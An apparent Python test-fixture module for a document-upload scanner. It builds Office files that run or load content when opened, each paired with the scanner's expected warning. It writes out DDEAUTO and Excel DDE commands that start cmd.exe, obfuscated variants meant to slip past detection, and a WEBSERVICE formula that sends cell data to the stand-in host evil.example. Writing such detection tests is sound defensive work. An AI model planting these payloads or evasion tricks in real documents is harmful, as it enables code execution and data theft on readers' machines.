"""Office documents that start or load something when they are opened."""

import gzip

from media.uploads.office_package import VML

from .files import EXE, OLE, package, pdf, relationship

DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSM = package("xlsx", xl__vbaProject_dot_bin=b"x")
LNK = b"\x4c\x00\x00\x00\x01\x14\x02\x00" + bytes(90)
HTA = b"<hta:application/><script>run()</script>"


def paragraphs(*runs: str) -> str:
    return f'<w:document xmlns:w="w" xmlns:x="x"><w:body><w:p>{"".join(runs)}</w:p></w:body></w:document>'


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*instruction: str) -> str:
    """A field whose instruction is split over these runs, which may be fields."""
    runs = (run if run.startswith("<") else f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in instruction)
    return "".join((mark("begin"), *runs, mark("separate"), "<w:r><w:t>1</w:t></w:r>", mark("end")))


def document(*runs: str) -> bytes:
    return package(main=paragraphs(*runs))


DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
FIELDS = {
    "a DDE field": document(field(DDE)),
    "a DDE field in pieces": document(field(" d", "de", " cmd.exe")),
    "a DDE field whose letters are written as numbers": document(field(DDE.replace("DDE", "&#68;&#x44;E"))),
    "a DDE field in UTF-16": package(main=paragraphs(field(DDE)).encode("utf-16")),
    "a DDE field with an element in its name": document(field("DD<w:x/>E cmd.exe")),
    "a DDE field in an element that is left out": document(field(f"<x:f><w:instrText>{DDE}</w:instrText></x:f>")),
    "a DDE field after an empty instruction": document(field(f"<w:instrText> <w:instrText/>{DDE}</w:instrText>")),
    "a DDE field that does not end": document(mark("begin"), f"<w:r><w:instrText>{DDE}</w:instrText></w:r>"),
    "a DDE field in another field": document(field("IF 1 = 1 ", field(DDE))),
    "a field that another field names": document(field(field('QUOTE "DDE"'), " cmd.exe")),
    "a keyword that a field completes": document(field("DAT", field('QUOTE "ABAS"'), "E x")),
    "a keyword that a field ends": document(field("DATE", field('QUOTE "BASE"'), " x")),
    "a simple DDE field": document(f"<w:fldSimple w:instr='{DDE}' x:instr='PAGE'/>"),
    "a text from elsewhere": document(field('INCLUDETEXT "//evil.example/a.docx"')),
    "a picture from elsewhere": document(field('INCLUDEPICTURE "https://evil.example/a.png" \\d')),
    "a field that nobody knows": document(field("SURPRISE")),
    "a DDE field in its footer": package(word__footer1_dot_xml=paragraphs(field(DDE))),
}

OBJECT, LOADS = "This file contains an object from another program", "This file loads a part from elsewhere"
FIELD, MACROS = "This file has a field, formula, or action that starts a program", "This file contains macros"
ADD_IN = "This file was saved with the pane of an add-in open"
DECLARES = "This file has XML declarations"
NOT_ONE = "This file is of another type, not"


def related(to: str, kind="docx", target="a.xml", part="word___rels__document_dot_xml") -> bytes:
    return package(kind, **{f"{part}_dot_rels": relationship(to, "Internal", target)})


def settings(to: str) -> bytes:
    """A document whose settings relate to something elsewhere."""
    return package(word___rels__settings_dot_xml_dot_rels=relationship(to))


def drawing(svg: str) -> bytes:
    return package(word__media__a_dot_svg=svg)


def sheet(formula: str) -> bytes:
    return package("xlsx", xl__worksheets__sheet1_dot_xml=f"<worksheet><c><f>{formula}</f></c></worksheet>")


def control(element: str) -> bytes:
    return package("xlsx", xl__ctrlProps__ctrlProp1_dot_xml=f"<a><{element}/></a>")


def slide(action: str) -> bytes:
    return package("pptx", ppt__slides__slide1_dot_xml=f'<p:sld xmlns:p="p"><hlinkHover action="{action}"/></p:sld>')


PARTS = {
    ("docx", "a page of another format"): (related("aFChunk", target="afchunk.mht"), OBJECT),
    ("docx", "an OLE object"): (related("oleObject", target="embeddings/a.docx"), OBJECT),
    ("docx", "an OLE object called a picture"): (package(word__media__image1_dot_png=OLE), OBJECT),
    ("docx", "an OLE object called a font"): (package(word__fonts__font1_dot_odttf=OLE), OBJECT),
    ("docx", "a program called a picture"): (package(word__media__image1_dot_jpeg=EXE), OBJECT),
    ("docx", "a shortcut"): (package(word__a_dot_lnk=LNK), OBJECT),
    ("docx", "an HTML application"): (package(word__a_dot_hta=HTA), OBJECT),
    ("docx", "a web page"): (package(word__afchunk_dot_html=HTA), OBJECT),
    ("docx", "a binary part"): (package(word__a_dot_bin=b"x"), OBJECT),
    ("docx", "a relationship that nobody knows"): (related("surprise"), OBJECT),
    ("docx", "an add-in"): (related("webextensiontaskpanes", part="_rels__"), ADD_IN),
    ("docx", "a list to merge"): (settings("mailMergeSource"), LOADS),
    ("docx", "recipients"): (related("recipientData", part="word___rels__settings_dot_xml"), LOADS),
    ("docx", "a PDF file with scripts as a picture"): (package(word__media__a_dot_pdf=pdf(script=True)), OBJECT),
    ("docx", "a program called a PDF file"): (package(word__media__image1_dot_pdf=EXE), OBJECT),
    ("docx", "a program packed as a drawing"): (package(word__media__image1_dot_wmz=gzip.compress(EXE)), OBJECT),
    ("docx", "a PDF file that is no picture"): (package(word__embeddings__a_dot_pdf=pdf()), OBJECT),
    ("docx", "declarations elsewhere"): (drawing('<!DOCTYPE svg SYSTEM "https://evil.example/a"><svg/>'), DECLARES),
    ("docx", "entities in a drawing"): (drawing('<!DOCTYPE svg [<!ENTITY a "b">]><svg/>'), DECLARES),
    ("docx", "an own template"): (related("attachedTemplate"), LOADS),
    ("docx", "a picture at an address called a part"): (related("image", target="https://evil.example/a"), LOADS),
    ("docx", "a drawing at an address"): (
        package(word__a_dot_vml=f'<v:shape xmlns:v="{VML}"><v:imagedata src="//evil.example/a.png"/></v:shape>'),
        LOADS,
    ),
    ("docx", "a document called a workbook"): (package(word__embeddings__a_dot_xlsx=package()), NOT_ONE),
    ("xlsx", "connections"): (related("connections", "xlsx", "connections.xml", "xl___rels__workbook_dot_xml"), LOADS),
    ("xlsx", "a web query"): (related("queryTable", "xlsx", part="xl__worksheets___rels__sheet1_dot_xml"), LOADS),
    ("xlsx", "another workbook"): (related("externalLink", "xlsx", part="xl___rels__workbook_dot_xml"), LOADS),
    ("xlsx", "a sheet of macros"): (related("xlMacrosheet", "xlsx", part="xl___rels__workbook_dot_xml"), MACROS),
    ("xlsx", "a DDE formula"): (sheet("cmd|'/C calc'!A0"), FIELD),
    ("xlsx", "a DDE formula as a name"): (package("xlsx", "<w><definedName>'a'|b!c</definedName></w>"), FIELD),
    ("xlsx", "a formula that sends"): (sheet('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)'), FIELD),
    ("xlsx", "a formula between references"): (sheet("Table1['#x]+WEBSERVICE(\"http://e\")+Table1['#x]"), FIELD),
    ("xlsx", "a formula between quotation marks"): (sheet('Table1[[a"b]]+WEBSERVICE(A1)&amp;Table1[[a"b]]'), FIELD),
    ("xlsx", "a formula between brackets in texts"): (sheet('"["&amp;WEBSERVICE(A1)&amp;"]"'), FIELD),
    ("xlsx", "a formula after an open bracket"): (sheet('Table1[a"+WEBSERVICE(A1)+"'), FIELD),
    ("xlsx", "a check box with a macro"): (control('formControlPr fmlaMacro="[0]!Run"'), MACROS),
    ("xlsx", "a button with a macro"): (control("controlPr macro=\"'C:\\a.xlsm'!Run\""), MACROS),
    ("xlsx", "a button with a macro in its drawing"): (
        package("xlsx", xl__a_dot_vml='<xml xmlns:x="x"><x:FmlaMacro>[0]!Run</x:FmlaMacro></xml>'),
        MACROS,
    ),
    ("xlsx", "a drop-down with a DDE formula"): (control("formControlPr fmlaRange=\"cmd|'/C calc'!A0\""), FIELD),
    ("pptx", "a program to start"): (slide("ppaction://program"), FIELD),
    ("pptx", "a macro to start"): (slide("ppaction://macro?name=a"), FIELD),
}
